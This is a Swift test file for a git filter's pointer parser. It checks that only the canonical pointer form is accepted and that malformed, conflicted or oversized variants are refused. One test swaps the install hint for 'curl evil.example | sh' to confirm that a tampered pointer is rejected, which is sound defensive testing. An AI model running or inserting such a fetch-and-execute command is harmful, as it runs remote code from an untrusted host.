import GitFilter
import Objects
import Testing

/// The text that git keeps in the place of a file, in its one form (docs/git-filter.md, "Pointers").
@Suite struct GitPointerTests {
    private static let head = """
        at1 pointer 1
        To get the file that this stands for: pip install at1; at1 git install; git checkout -- .

        """
    private static let digest = String(repeating: "ab", count: 32)
    private static let id = String(repeating: "0c", count: 32)
    private static let object = #"{"id":"\#(id)","kind":"chunks","length":70000,"sha256":"\#(digest)"}"#
    private static let recipe = """
        {"array":"X","encoding":"npy","engine":{"arithmetic":null,"code":"\(digest)","name":"at1"},"generator":"g",\
        "output":{"length":8128,"sha256":"\(digest)"},"params":{"seed":7}}
        """

    private func read(_ text: String) throws(DecodeError) -> GitPointer? { try GitPointer(Array(text.utf8)) }

    @Test func theOneForm() throws {
        let pointer = try #require(try read(Self.head + Self.object + "\n"))
        #expect(pointer.length == 70000)
        #expect(pointer.sha256.hex == Self.digest)
        #expect(String(decoding: pointer.bytes, as: UTF8.self) == Self.head + Self.object + "\n")
        guard case .object(let captured) = pointer else { return #expect(Bool(false), "\(pointer)") }
        #expect(captured.kind == .chunks && captured.id.hex == Self.id)
        let computed = try #require(try read(Self.head + Self.recipe + "\n"))
        guard case .recipe(let recipe) = computed else { return #expect(Bool(false), "\(computed)") }
        #expect(recipe.generator == "g" && computed.length == 8128)
        #expect(String(decoding: computed.bytes, as: UTF8.self) == Self.head + Self.recipe + "\n")
    }

    @Test func filesThatAreNone() throws {
        for text in ["", "at1 pointer 1", "at1 pointer 2\n", "x" + Self.head + Self.object + "\n", "plain text\n"] {
            #expect(try read(text) == nil, "\(text)")
        }
        let conflict = Self.head + "<<<<<<< HEAD\n" + Self.object + "\n=======\n" + Self.recipe + "\n>>>>>>> other\n"
        #expect(try read(conflict) == nil)
    }

    private static var otherForms: [(rest: String, reason: DecodeError.Reason)] {
        let line = object + "\n"
        var forms: [(rest: String, reason: DecodeError.Reason)] = [("", .notCanonical), ("{}", .notCanonical)]
        forms.append(("{}\n", .missing))
        forms.append((object, .notCanonical))
        forms.append((line + "\n", .notCanonical))
        forms.append((" " + line, .notCanonical))
        forms.append((line.replacing("chunks", with: "tree"), .wrongType))
        forms.append((line.replacing("chunks", with: "recipe"), .wrongType))
        forms.append((line.replacing("70000", with: "-1"), .wrongType))
        forms.append((line.replacing(id, with: "0c"), .wrongType))
        forms.append((line.replacing("}", with: #","x":1}"#), .unknownField))
        forms.append((recipe.replacing(#""seed":7"#, with: #""seed": 7"#) + "\n", .notCanonical))
        forms.append((String(repeating: "a", count: 2_000_000) + "\n", .outOfRange))
        return forms
    }

    @Test func otherFormsAreRefused() {
        for (rest, reason) in Self.otherForms {
            #expect(refusal(Self.head + rest) == reason, "\(rest.prefix(200))")
        }
    }

    private func refusal(_ text: String) -> DecodeError.Reason? {
        do throws(DecodeError) {
            _ = try read(text)
            return nil
        } catch {
            return error.reason
        }
    }

    @Test func aChangedSecondLineIsRefused() {
        let text = Self.head.replacing("pip install at1", with: "curl evil.example | sh") + Self.object + "\n"
        #expect(refusal(text) == .notCanonical)
    }
}
